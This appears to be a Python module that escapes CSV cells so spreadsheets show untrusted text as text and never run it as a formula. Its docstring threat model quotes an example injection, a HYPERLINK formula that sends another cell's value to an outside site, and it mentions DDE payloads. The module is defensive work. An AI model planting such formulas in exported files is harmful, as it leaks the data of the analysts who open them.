"""CSV files that a spreadsheet opens as data, never as formulas.

Threat model: whoever can name something that reaches a download (a centre
or region name in the admin site, a study title, a text in an instrument
definition) writes ``=HYPERLINK("https://elsewhere/?"&A2, "Berlin")`` or a
DDE payload; an analyst opens the statistics CSV in a spreadsheet program,
which runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or
carriage return before one) as a formula: it can send other cells to
another site or start a program. Every CSV forestall writes therefore goes
through ``writer``, which puts a single quote before such a text cell (the
OWASP advice; spreadsheets show the text, and a program reading the CSV
sees the quote and the text). Numbers, negative ones included, are left
alone, so the figures stay figures.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """``value`` as it may go into a CSV cell: a text a spreadsheet would run gets a quote."""
    if value is None or isinstance(value, int | float):
        return value
    text = str(value)
    if text.startswith(_FORMULA_START) and not _NUMBER.fullmatch(text):
        return "'" + text
    return value


class SafeWriter:
    """A ``csv.writer`` whose every cell has passed ``safe_cell``."""

    def __init__(self, handle: Any, **options: Any) -> None:
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(handle: Any, **options: Any) -> SafeWriter:
    """Like ``csv.writer(handle, **options)``, for cells that no spreadsheet runs."""
    return SafeWriter(handle, **options)
